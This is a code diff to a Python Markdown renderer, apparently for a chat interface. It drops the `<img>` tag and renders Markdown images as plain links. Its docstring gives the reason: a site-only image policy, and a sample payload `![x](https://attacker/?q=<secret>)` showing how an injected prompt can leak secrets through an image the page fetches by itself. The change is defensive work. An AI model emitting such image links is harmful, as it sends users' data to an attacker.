@@ -31,7 +31,7 @@ from pygments.util import ClassNotFound
 _TAGS = {
     "p", "br", "hr", "strong", "em", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li",
     "h1", "h2", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td",
-    "span", "div", "button", "input", "img",
+    "span", "div", "button", "input",
 }  # fmt: skip
 _ATTRIBUTES = {
     "*": {"class"},
@@ -40,7 +40,6 @@ _ATTRIBUTES = {
     "input": {"type", "checked", "disabled"},
     "button": {"type", "data-copy"},
     "div": {"data-lang"},
-    "img": {"src", "alt", "title"},
 }
 _FORMATTER = HtmlFormatter(nowrap=True)
 # A message can be long; highlighting megabytes of code would hold the page's render.
@@ -63,6 +62,24 @@ def _fence(self, tokens, idx, options, env) -> str:  # noqa: ANN001 (markdown-it
     )
 
 
+def _image_as_link(self, tokens, idx, options, env) -> str:  # noqa: ANN001 (markdown-it's renderer signature)
+    """A Markdown image as a link to it, never an `<img>`: SB-6's CSP loads images from this site
+    only, so a remote one drew as a broken icon and a CSP error on every refresh (QA). And an
+    image the page fetched by itself would be the classic exfiltration channel of an injected
+    prompt (`![x](https://attacker/?q=<secret>)`): a link goes nowhere until the user clicks it."""
+    token = tokens[idx]
+    source = str(token.attrGet("src") or "")
+    label = escape(self.renderInlineAsText(token.children or [], options, env) or source)
+    # An image inside a link (a README's badge): the link already goes somewhere, and a link
+    # inside a link is not HTML (the parser would empty the outer one).
+    opened = sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx])
+    if opened > 0:
+        return f'<span class="image-link">{label}</span>'
+    title = token.attrGet("title")
+    titled = f' title="{escape(str(title))}"' if title else ""
+    return f'<a href="{escape(source)}" class="image-link"{titled}>{label}</a>'
+
+
 def _alignment_as_class(state) -> None:  # noqa: ANN001 (markdown-it's rule signature)
     """A GFM column's alignment as a class: SB-6's CSP refuses style attributes."""
     for token in state.tokens:
@@ -80,6 +97,7 @@ def _parser() -> MarkdownIt:
     md.add_render_rule("fence", _fence)
     md.core.ruler.push("alignment_as_class", _alignment_as_class)
     md.add_render_rule("code_block", _fence)
+    md.add_render_rule("image", _image_as_link)
     return md
 
 
